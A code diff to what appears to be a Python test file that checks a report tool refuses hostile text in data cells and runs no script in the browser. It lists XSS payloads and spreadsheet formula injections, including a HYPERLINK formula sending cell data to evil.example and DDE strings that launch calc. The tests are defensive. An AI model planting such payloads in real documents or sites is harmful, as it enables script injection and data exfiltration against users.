@@ -33,16 +33,20 @@ from browser import visit
 from support import ROOT
 
 #: What a hostile contributor would put in a text cell. Each one sets ``window.__pwned`` or
-#: opens a dialog if it ever runs.
+#: opens a dialog if it ever runs. The first one closes a ``<script>`` element (such as the one
+#: that holds a chart's data) and has no quotes, so no JSON escaping can defuse it.
+SCRIPT = '<script>window.__pwned=1;alert("script")</script>'
+FORMULA = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'
 PAYLOADS = [
-    '<script>window.__pwned=1;alert("script")</script>',
+    "</script><img src=x onerror=window.__pwned=1>",
+    SCRIPT,
     "<img src=x onerror=\"window.__pwned=1;alert('img')\">",
     "<svg/onload=window.__pwned=1>",
     "[click me](javascript:window.__pwned=1)",
     "`<b>raw</b>`{=html}",
     '<a href="javascript:alert(1)">link</a>',
     "javascript:window.__pwned=1",
-    '=HYPERLINK("https://evil.example/?q="&A1,"Click")',
+    FORMULA,
 ]
 
 #: Source addresses that must never become a link (rows 2.. of sources.csv), and one that is
@@ -56,16 +60,10 @@ BAD_URLS = [
 ]
 BREAKOUT_URL = 'https://example.org/"onmouseover="window.__pwned=1'
 
-#: Which rule (or schema constraint) refuses each payload in a free-text field.
+#: Which rule refuses each payload in a free-text field.
 REFUSED_BY = {
-    PAYLOADS[0]: "text_cells/no-html",
-    PAYLOADS[1]: "text_cells/no-html",
-    PAYLOADS[2]: "text_cells/no-html",
-    PAYLOADS[3]: "text_cells/no-html",
-    PAYLOADS[4]: "text_cells/no-html",
-    PAYLOADS[5]: "text_cells/no-html",
-    PAYLOADS[6]: "text_cells/no-html",
-    PAYLOADS[7]: "text_cells/no-formula-prefix",
+    **{p: "text_cells/no-html" for p in PAYLOADS if p != FORMULA},
+    FORMULA: "text_cells/no-formula-prefix",
     "+cmd|' /C calc'!A0": "text_cells/no-formula-prefix",
     "-2+3+cmd|' /C calc'!A0": "text_cells/no-formula-prefix",
     "@SUM(1+1)": "text_cells/no-formula-prefix",
@@ -105,7 +103,7 @@ def test_validation_refuses_the_payload_in_every_text_field(payload: str, tmp_pa
         assert any(f"field {field!r}" in ln for ln in located), (path, line, field, out[-3000:])
 
 
-@pytest.mark.parametrize("payload", [PAYLOADS[0], PAYLOADS[7]])
+@pytest.mark.parametrize("payload", [SCRIPT, FORMULA])
 def test_schema_refuses_the_payload_in_every_id_or_coded_field(
     payload: str, tmp_path: Path
 ) -> None:
@@ -168,7 +166,7 @@ def hostile_copy(folder: Path) -> None:
         write_rows(folder, resource, rows)
 
     def describe(data: dict) -> None:
-        resource_of(data, "rounds")["schema"]["fields"][1]["description"] = PAYLOADS[0]
+        resource_of(data, "rounds")["schema"]["fields"][1]["description"] = SCRIPT
 
     edit_descriptor(describe)(folder)
     rehash(folder)
@@ -246,6 +244,7 @@ def test_chromium_runs_no_script_from_the_data(hostile_report: Path) -> None:
     )
     assert seen.values["pwned"] == "undefined"
     assert seen.dialogs == []
+    assert seen.console_errors == []
     assert seen.values["handlers"] == 0
     assert seen.charts_drawn  # the charts drew, with the hostile names as labels
     outside = [u for u in seen.requests if u != page.as_uri() and not u.startswith("data:")]
